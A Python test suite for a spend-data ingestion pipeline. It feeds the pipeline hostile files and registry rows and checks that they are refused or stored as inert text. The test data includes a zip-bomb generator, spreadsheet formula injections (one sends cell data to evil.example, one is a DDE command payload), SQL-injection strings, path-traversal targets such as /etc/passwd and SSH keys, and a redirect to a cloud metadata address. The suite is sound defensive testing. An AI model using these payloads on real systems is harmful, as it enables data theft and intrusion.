"""Spend files and registries written by someone hostile: every one is refused or stored inert, and the
good files beside them still load whole."""

from __future__ import annotations

import ast
import io
import re
import zipfile
from pathlib import Path

import openpyxl
import pytest

import flows.spend.layout
from flows.http import Fetched, FetchError, RetryPolicy, fetch
from flows.landing import store
from flows.spend import RegistryError, ingest_feed, read_registry
from flows.spend.fetch import FeedError, fetch_feed

GOOD = "Supplier Name,Amount,Payment Date,Description\nAcme Ltd,100.00,01/04/2025,Stationery\n"
REPO = Path(__file__).resolve().parents[2]


def _registry(feed_dir: Path, files: dict[str, bytes], extra_rows: list[str] = ()) -> Path:
    for name, body in files.items():
        (feed_dir / name).write_bytes(body)
    rows = [f"pub{i},Council {i},E0800002{i % 10},{name}," for i, name in enumerate(files)]
    path = feed_dir / "registry.csv"
    path.write_text("publisher_id,publisher_name,lad_code,url,format\n" + "\n".join([*rows, *extra_rows]) + "\n")
    return path


def _ingest(con, settings, registry: Path, **kwargs):
    return [ingest_feed(con, settings, feed, **kwargs) for feed in read_registry(registry)]


def _xlsx(rows: list[list], as_text: bool = True) -> bytes:
    book = openpyxl.Workbook()
    sheet = book.active
    for row in rows:
        sheet.append(row)
    if as_text:  # openpyxl stores '=…' as a formula unless told it is a string
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and cell.value.startswith("="):
                    cell.data_type = "s"
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def _zip_bomb(inflated: int) -> bytes:
    """An XLSX-shaped zip whose one sheet is `inflated` bytes of spaces: a few hundred KB on the wire."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types/>')
        with archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as sheet:
            block = b" " * (1 << 20)
            for _ in range(inflated // len(block)):
                sheet.write(block)
    return out.getvalue()


def test_zip_bomb_disguised_as_xlsx_is_rejected_before_it_inflates(con, settings, feed_dir, monkeypatch,
                                                                   hostile_tally):
    monkeypatch.setattr(flows.spend.layout, "MAX_XLSX_INFLATED_BYTES", 64 * 1024**2)
    bomb = _zip_bomb(96 * 1024**2)
    assert len(bomb) < 1024**2
    registry = _registry(feed_dir, {"bomb.xlsx": bomb, "bomb_named.csv": bomb, "good.csv": GOOD.encode()})
    bomb_xlsx, bomb_csv, good = _ingest(con, settings, registry)
    for result in (bomb_xlsx, bomb_csv):
        assert result.status == "rejected" and "zip bomb" in result.message and result.rows_loaded == 0
    assert good.status == "loaded" and good.rows_loaded == 1
    hostile_tally.tried(2)


def test_default_inflation_limit_refuses_a_bomb_declaring_gigabytes():
    # A directory that claims 3 GiB is refused from the directory alone, without inflating anything.
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("xl/worksheets/sheet1.xml", b"")
    body = bytearray(out.getvalue())
    central = body.rfind(b"PK\x01\x02")
    body[central + 24: central + 28] = (3 * 1024**3).to_bytes(4, "little")  # the declared uncompressed size
    with pytest.raises(flows.spend.layout.LayoutError, match="zip bomb"):
        flows.spend.layout.check_inflated_size(bytes(body))


def test_huge_spend_file_is_refused_at_the_size_cap_and_the_others_load(con, settings, feed_dir, hostile_tally):
    huge = GOOD + "Acme Ltd,1.00,01/04/2025,x\n" * 5000
    registry = _registry(feed_dir, {"huge.csv": huge.encode(), "good.csv": GOOD.encode()})
    big, good = _ingest(con, settings, registry, max_bytes=64 * 1024)
    assert big.status == "failed" and "larger than the 65,536-byte limit" in big.message
    assert good.status == "loaded"
    hostile_tally.tried()


FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "=1+1", "+SUM(A1:A9)", "-2+3", "@SUM(A1)",
            "=cmd|' /C calc'!A0"]


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_formulas_in_cells_are_stored_as_text_never_evaluated(kind, con, settings, feed_dir, hostile_tally):
    rows = [["Supplier Name", "Amount", "Payment Date", "Description"]]
    rows += [[formula, "10.00", "01/04/2025", formula] for formula in FORMULAS]
    if kind == "csv":
        import csv

        out = io.StringIO()
        csv.writer(out).writerows(rows)
        body = out.getvalue().encode()
    else:
        body = _xlsx(rows)
    (result,) = _ingest(con, settings, _registry(feed_dir, {f"formulas.{kind}": body}))
    assert result.rows_loaded == len(FORMULAS)
    stored = con.execute("SELECT supplier_name, expense_description FROM raw.spend_payments ORDER BY source_row").fetchall()
    assert stored == [(f, f) for f in FORMULAS]
    hostile_tally.tried(len(FORMULAS))


SQL_NAMES = ["Robert'); DROP TABLE raw.spend_payments;--", "' OR '1'='1", '"; DELETE FROM ops.spend_files; --',
             "x' UNION SELECT * FROM ops.landing_files --", "$1; COPY raw.spend_payments TO '/tmp/x'",
             "Acme\\'; ATTACH '/tmp/evil.duckdb' AS e; --"]


def test_sql_looking_supplier_names_are_stored_verbatim_and_break_nothing(con, settings, feed_dir, hostile_tally):
    import csv

    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(["Supplier Name", "Amount", "Payment Date", "Description", "Transaction Number"])
    for i, name in enumerate(SQL_NAMES):
        writer.writerow([name, "10.00", "01/04/2025", name, name])
    writer.writerow(["'; DROP TABLE raw.spend_rejects; --", "not money", "01/04/2025", "reject me", "r"])
    (result,) = _ingest(con, settings, _registry(feed_dir, {"sql.csv": out.getvalue().encode()}))
    assert (result.rows_loaded, result.rows_rejected) == (len(SQL_NAMES), 1)
    assert [r[0] for r in con.execute("SELECT supplier_name FROM raw.spend_payments ORDER BY source_row").fetchall()] \
        == SQL_NAMES
    assert con.execute("SELECT count(*) FROM raw.spend_rejects").fetchone()[0] == 1
    assert con.execute("SELECT count(*) FROM ops.spend_files").fetchone()[0] == 1
    assert not Path("/tmp/x").exists()
    hostile_tally.tried(len(SQL_NAMES) + 1)


@pytest.mark.parametrize("url", [
    "../../../../etc/passwd", "/etc/passwd", "~/.ssh/id_rsa", "sub/../../outside.csv", "/proc/self/environ",
])
def test_path_traversal_in_the_registry_is_refused(url, feed_dir, hostile_tally):
    registry = _registry(feed_dir, {"good.csv": GOOD.encode()}, [f"evil,Evil,E08000025,{url},"])
    with pytest.raises(RegistryError, match="outside the allowed feed folders|row 3"):
        read_registry(registry)
    hostile_tally.tried()


@pytest.mark.parametrize("url", ["file:///etc/passwd", "ftp://example.org/spend.csv", "javascript:alert(1)",
                                 "data:text/csv,Supplier", "gopher://example.org/", "FILE:///etc/shadow"])
def test_non_http_schemes_are_refused_in_the_registry_and_at_fetch(url, feed_dir, hostile_tally):
    registry = _registry(feed_dir, {"good.csv": GOOD.encode()}, [f"evil,Evil,E08000025,{url},"])
    with pytest.raises(RegistryError, match="only http\\(s\\) URLs and local paths are accepted"):
        read_registry(registry)
    (good,) = read_registry(_registry(feed_dir, {"good.csv": GOOD.encode()}))
    with pytest.raises(FeedError, match="URLs are not accepted"):
        fetch_feed(good.__class__(**{**good.__dict__, "fetch_url": url}), RetryPolicy(max_attempts=1))
    hostile_tally.tried()


@pytest.mark.parametrize("location", ["file:///etc/passwd", "ftp://127.0.0.1/x", "http://169.254.169.254/latest/"])
def test_redirects_to_other_schemes_or_hosts_are_not_followed(location, hostile_tally):
    from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
    import threading

    class Redirect(BaseHTTPRequestHandler):
        def do_GET(self):  # noqa: N802
            self.send_response(302)
            self.send_header("Location", location)
            self.send_header("Content-Length", "0")
            self.end_headers()

        def log_message(self, *args):
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Redirect)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        with pytest.raises(FetchError, match="redirected to another host"):
            fetch(f"http://127.0.0.1:{server.server_address[1]}/spend.csv", RetryPolicy(max_attempts=1))
    finally:
        server.shutdown()
        server.server_close()
    hostile_tally.tried()


@pytest.mark.parametrize("stem, folder", [
    ("../../../etc/cron.d/evil", "../.."), ("..", ".."), ("/abs/path", "/etc"), (".hidden", ".ssh"),
    ("a\x00b", "c\nd"), ("%2e%2e%2fx", "%2e%2e"),
])
def test_landing_file_names_cannot_leave_the_landing_area(stem, folder, settings, hostile_tally):
    from datetime import datetime, timezone

    fetched = Fetched("http://x/", 200, {}, b"body", datetime.now(timezone.utc), 1)
    landed = store(settings.home, "../" + folder, [folder, stem], stem, "../csv", fetched)
    assert landed.path.resolve().is_relative_to((settings.home / "landing").resolve())
    assert not any(part.startswith(".") for part in Path(landed.relative_path).parts)
    assert landed.path.read_bytes() == b"body"
    hostile_tally.tried()


def test_header_names_with_control_characters(con, settings, feed_dir, hostile_tally):
    mapped = "Supplier\x00 Name,\x1bAmount\x07,Payment\tDate\x7f\r\nAcme Ltd,5.00,01/04/2025\n"
    unmapped = "\x1b]0;pwned\x07Payee?,\x08\x08Cost,When\x7f\nAcme Ltd,5.00,01/04/2025\n"
    ok, refused = _ingest(con, settings, _registry(feed_dir, {"mapped.csv": mapped.encode(),
                                                              "unmapped.csv": unmapped.encode()}))
    assert ok.status == "loaded" and ok.rows_loaded == 1
    assert refused.status == "rejected"
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f]", refused.message), refused.message  # shown escaped
    hostile_tally.tried(2)


# ------------------------------------------------------------------------------------------ SQL audit

# Every execute() whose SQL is an f-string, and the names it interpolates: identifiers from code
# constants or catalog lookups, never input. A new one fails this test until it is reviewed here.
AUDITED_FSTRING_SQL = {
    # schema/table: catalog names (information_schema) or code constants; work: current_database();
    # temp/temp_db: paths the code builds, quoted by _sql_string; str(): of those paths; tag: integers and a
    # hex digest through _sql_string. key/relation/where/source/target/stale: built by _quote from catalog or
    # constant names (CHECKSUM_KEY, META_SCHEMA) and bucket numbers; the checksums compared are bound
    # ($parts, $nulls). part: a mart's partition expression from the PARTITIONS constant; number: built from
    # the PARQUET_FOLDERS column through _quote and the PARQUET_FILES integer, or "0". sums: _sums_query's
    # SQL from those same names.
    "flows/publish.py": {"CHECKSUM_KEY", "META_SCHEMA", "_quote", "_sql_string", "key", "number", "part",
                         "relation", "schema", "source", "stale", "str", "sums", "table", "tag", "target", "temp",
                         "temp_db", "where", "work"},
    "flows/database.py": {"MEMORY_LIMIT"},
    # source: the shaping query (_SHAPE_SQL) or "read_parquet(?)" with the cache path bound.
    "flows/reference.py": {"POSTCODE_TABLE", "source"},
    # group: a staged group's table names (the spend_stage in-memory database, STAGE_DB, and an int); name:
    # that database's tables from the catalog. Its SQL builders take column indexes and widths (ints) and regex constants through
    # _sql_literal; the file paths are bound ($paths).
    "flows/spend/fast.py": {"group", "name"},
    # Table and column names from code constants, payments_sql(staged group) as above; every value is an
    # unnest($n) parameter.
    "flows/spend/load.py": {"PAYMENT_COLUMNS", "names", "payments_sql", "select", "staged", "table"},
    # Suite, table and check names and SQL (sql, changed, rows) from expectations/suites.py, the time they
    # compare with bound ($since); condition: built by expectations/candidates.py from the suites' declared
    # expectations and code-computed parameters; limits are code constants.
    "flows/validate.py": {"DUCKDB_MEMORY_LIMIT", "_SAMPLE_ROWS", "changed", "condition", "rows", "select", "sql",
                          "suite"},
}


def _fstring_sql_names() -> dict[str, set[str]]:
    found: dict[str, set[str]] = {}
    for path in (REPO / "flows").rglob("*.py"):
        tree = ast.parse(path.read_text(encoding="utf-8"))
        for node in ast.walk(tree):
            if (isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute)
                    and node.func.attr in ("execute", "executemany", "sql", "query")
                    and node.args and isinstance(node.args[0], ast.JoinedStr)):
                names = {n.id for n in ast.walk(node.args[0]) if isinstance(n, ast.Name)}
                found.setdefault(path.relative_to(REPO).as_posix(), set()).update(names)
    return found


def test_no_input_reaches_sql_as_text_outside_the_audited_identifiers():
    found = _fstring_sql_names()
    unreviewed = {path: names - AUDITED_FSTRING_SQL.get(path, set()) for path, names in found.items()}
    assert {path: names for path, names in unreviewed.items() if names} == {}
